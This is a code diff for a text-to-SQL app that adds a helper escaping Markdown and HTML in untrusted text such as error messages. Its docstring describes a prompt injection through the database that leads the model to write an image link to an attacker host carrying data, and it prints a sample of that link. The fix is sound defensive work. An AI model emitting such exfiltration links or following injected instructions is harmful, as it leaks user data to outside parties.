@@ -7,13 +7,20 @@
 
 from __future__ import annotations
 
+import re
 from collections import Counter
 from pathlib import Path
 
 import pandas as pd
 
 from text2sql.sandbox import QueryResult
-from text2sql.settings import get_settings
+
+
+def plain(text: str) -> str:
+    """Untrusted text (a model's answer, an error quoting SQL or table names) for a Markdown
+    component, with no image, link or HTML left in it: a prompt injected through the database
+    could make the model write ![x](https://attacker/?data), and the browser would fetch it."""
+    return re.sub(r"([\\\[\]<>!])", r"\\\1", str(text))
 
 
 def cell(value):
@@ -41,13 +48,13 @@ def result_frame(result: QueryResult) -> pd.DataFrame:
 def result_summary(result: QueryResult, has_data: bool) -> str:
     """One Markdown line saying what happened, in plain words."""
     if not result.ok:
-        return f"❌ {result.error}"
+        return f"❌ {plain(result.error)}"
     if not has_data:
         return "✅ The SQL is valid for this schema. A pasted schema has no rows, so there is no table to show."
     count = len(result.rows)
     text = f"✅ {count} row{'' if count == 1 else 's'} in {result.elapsed_ms:.1f} ms"
     if result.truncated:
-        text += f" — truncated: only the first {get_settings().max_rows:,} rows are shown"
+        text += f" — truncated: only the first {count:,} rows are shown"
     return text
 
 
